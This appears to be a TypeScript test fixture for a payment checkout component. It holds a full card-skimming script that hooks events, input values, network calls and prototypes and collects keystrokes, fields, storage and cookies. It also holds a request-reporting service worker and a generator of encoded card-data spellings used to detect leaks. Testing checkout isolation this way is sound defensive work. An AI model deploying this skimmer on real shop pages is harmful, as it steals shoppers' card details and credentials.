/**
 * The script of a compromised shop page, as text: it runs before everything else, patches all that a page can, and keeps
 * what it sees in `window.loot`. It is written to see a card number wherever one passes within its reach.
 */
export const HOSTILE_SCRIPT = `(() => {
  const loot = (window.loot = []);
  const seen = new Set();
  const { apply, construct } = Reflect;
  const { stringify } = JSON;
  const { isArray } = Array;
  // Its own, so that what is kept is not seen once more by the spies.
  Object.defineProperty(loot, 'push', { value: loot.push });
  const push = loot.push.bind(loot);
  const has = seen.has.bind(seen);
  const add = seen.add.bind(seen);
  const cut = (text) => apply(slice, text, [0, 1000]);
  const { slice } = String.prototype;
  let deep = false;
  // Each text once, and no more of it than a card needs: a spy that slows the page down is found out.
  const keep = (where, text) => {
    const line = where + ': ' + cut(text);
    if (text.length < 3 || loot.length > 20000 || has(line)) return;
    add(line);
    push(line);
  };
  const describe = (event) => {
    let text = [event.type, event.key, event.data, event.inputType].join(' ');
    for (const node of event.composedPath?.() ?? []) if (node && node.value) text += ' value=' + node.value;
    if ('clipboardData' in event) text += event.clipboardData?.getData('text');
    if ('dataTransfer' in event) text += event.dataTransfer?.getData?.('text');
    if (event instanceof MessageEvent) text += stringify(event.data);
    return text;
  };
  const note = (where, value) => {
    if (deep || value === null || value === undefined) return;
    deep = true;
    try {
      if (typeof value === 'string') keep(where, value);
      else if (value instanceof Event) keep(where, describe(value));
      else if (isArray(value) && value.length < 40 && value.every((one) => typeof one !== 'object' || one === null || !('nodeType' in one))) keep(where, stringify(value));
      else if (Object.getPrototypeOf(value) === Object.prototype && /postMessage|fetch|stringify|parse|port|event/.test(where)) keep(where, stringify(value));
    } catch (error) { keep(where, 'threw ' + error); }
    deep = false;
  };
  const wrap = (target, name, where) => {
    const own = target?.[name];
    if (typeof own !== 'function') return;
    target[name] = function (...args) {
      if (!deep) {
        if (typeof this === 'string') note(where + '.' + name, this);
        for (let at = 0; at < args.length; at += 1) note(where + '.' + name, args[at]);
      }
      const result = new.target ? construct(own, args, new.target) : apply(own, this, args);
      if (!deep) note(where + '.' + name + ' gave', result);
      return result;
    };
  };
  // Every event, wherever it is heard, and every event sent by a script.
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    const spy = typeof listener !== 'function' ? listener : function (event) {
      note('heard ' + type, event);
      return apply(listener, this, [event]);
    };
    return apply(listen, this, [type, spy, options]);
  };
  wrap(EventTarget.prototype, 'dispatchEvent', 'EventTarget');
  for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut', 'compositionend',
    'drop', 'dragover', 'dragstart', 'selectionchange', 'message', 'focusin', 'submit', 'blur', 'focus']) {
    for (const target of [window, document]) apply(listen, target, [type, (event) => note('saw ' + type, event), true]);
  }
  for (const name of ['ready', 'change', 'submit', 'action', 'complete', 'error'])
    apply(listen, document, ['tillgate-' + name, (event) => note('event', Object.entries(event)), true]);
  // Open every shadow root and remember it.
  const roots = (window.roots = new Set());
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = apply(attach, this, [{ ...init, mode: 'open' }]);
    roots.add(root);
    return root;
  };
  wrap(window, 'postMessage', 'window');
  wrap(MessagePort.prototype, 'postMessage', 'MessagePort');
  const handler = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...handler,
    set(listener) {
      apply(handler.set, this, [(event) => { note('port', event.data); listener.call(this, event); }]);
    },
  });
  const Channel = window.MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      window.ports = [...(window.ports ?? []), this.port1, this.port2];
    }
  };
  // What goes over the network from this page.
  wrap(window, 'fetch', 'window');
  wrap(XMLHttpRequest.prototype, 'send', 'XMLHttpRequest');
  wrap(XMLHttpRequest.prototype, 'open', 'XMLHttpRequest');
  wrap(Navigator.prototype, 'sendBeacon', 'navigator');
  wrap(HTMLFormElement.prototype, 'submit', 'form');
  // What every script uses.
  for (const [target, names, where] of [
    [JSON, ['stringify', 'parse'], 'JSON'],
    [Array.prototype, ['push', 'join', 'concat'], 'Array'],
    [String.prototype, ['replace', 'replaceAll', 'slice', 'split', 'trim', 'match', 'padStart'], 'String'],
    [RegExp.prototype, ['test', 'exec'], 'RegExp'],
    [Storage.prototype, ['setItem'], 'Storage'],
    [CustomElementRegistry.prototype, ['define'], 'customElements'],
    [Element.prototype, ['setAttribute', 'append', 'replaceWith'], 'Element'],
    [Node.prototype, ['insertBefore', 'appendChild'], 'Node'],
    [CSSStyleDeclaration.prototype, ['setProperty'], 'style'],
  ]) for (const name of names) wrap(target, name, where);
  for (const prototype of [HTMLInputElement.prototype, HTMLTextAreaElement.prototype, HTMLSelectElement.prototype]) {
    const value = Object.getOwnPropertyDescriptor(prototype, 'value');
    Object.defineProperty(prototype, 'value', {
      ...value,
      get() { const text = apply(value.get, this, []); note('value read', text); return text; },
      set(text) { note('value set', text); apply(value.set, this, [text]); },
    });
  }
  // Setters that a careless copy of an object would fall into.
  for (const name of ['card', 'number', 'security_code', 'expiry_month', 'holder_name', 'holder']) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      set(value) {
        note('Object.prototype.' + name, value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }
  // The iframe's getters, and every iframe in any tree.
  const inner = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
  for (const name of ['contentWindow', 'contentDocument', 'src']) {
    const own = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, name);
    Object.defineProperty(HTMLIFrameElement.prototype, name, {
      ...own,
      get() { const value = apply(own.get, this, []); note('frame ' + name, value); return value; },
    });
  }
  const trees = () => [document, ...roots, ...[...document.querySelectorAll('*')].flatMap((node) => node.shadowRoot ?? [])];
  window.framesSeen = () => trees().flatMap((tree) => [...tree.querySelectorAll('iframe')]);
  window.rummage = () => {
    for (const tree of trees()) {
      for (const node of tree.querySelectorAll('input, select, textarea')) note('a field', node.value);
      note('text', tree.textContent);
    }
    note('selection', String(getSelection()));
    for (const entry of performance.getEntries()) note('performance', entry.name);
    for (const frame of framesSeen()) {
      const view = apply(inner.get, frame, []);
      for (const step of [
        () => view.document.body.innerText,
        () => view.document.querySelector('tillgate-checkout').shadowRoot.textContent,
        () => view.localStorage.length,
        () => view.name,
        () => view.eval('document.body.innerHTML'),
        () => view.location.href,
        () => view.history.length,
        () => view.getSelection(),
        () => view.frames[0].document,
        () => frame.contentDocument.body.innerText,
        () => Object.getOwnPropertyNames(view).map((name) => { try { return String(view[name]); } catch { return ''; } }).join(),
      ]) {
        try { note('frame gave', String(step())); } catch { window.refused = (window.refused ?? 0) + 1; }
      }
    }
    note('storage', stringify({ ...localStorage, ...sessionStorage }));
    note('cookies', document.cookie);
  };
})();`;

/** A service worker of the shop's origin that reports every request. */
export const HOSTILE_WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    const { request } = event;
    event.waitUntil((async () => {
      const body = await request.clone().text().catch(() => '');
      const line = 'worker: ' + request.method + ' ' + request.url + ' ' + body;
      for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage({ line });
    })());
  });
`;

/** Every spelling in which captured card data can appear. */
export function cardDataSpellings(card: { number: string; code: string; expiry: readonly string[] }): string[] {
  const { number } = card;
  const parts: string[] = [];
  for (let at = 0; at + 5 <= number.length; at += 1) parts.push(number.slice(at, at + 5));
  const groups = number.match(/.{1,4}/g)!;
  const pairs = groups.slice(1).flatMap((group, at) => [`${groups[at]!} ${group}`, `${groups[at]!}-${group}`]);
  const texts = [...parts, ...pairs, card.code, ...card.expiry];
  const letters = (text: string, write: (code: string) => string): string =>
    Array.from(text, (letter) => write(letter.charCodeAt(0).toString(16))).join('');
  return texts.flatMap((text) => [
    text,
    encodeURIComponent(text),
    ...base64Of(text),
    letters(text, (code) => code),
    letters(text, (code) => `%${code}`),
    letters(text, (code) => `\\u00${code}`),
    Array.from(text).reverse().join(''),
  ]);
}

/** A text within a longer one, at each of the three places where base64 can have it; its edges depend on what is around it. */
function base64Of(text: string): string[] {
  if (text.length < 4) return [Buffer.from(text).toString('base64')];
  return [0, 1, 2].map((offset) => {
    const coded = Buffer.from(' '.repeat(offset) + text).toString('base64');
    const first = Math.ceil((offset * 8) / 6);
    return coded.slice(first, Math.floor(((offset + text.length) * 8) / 6));
  });
}
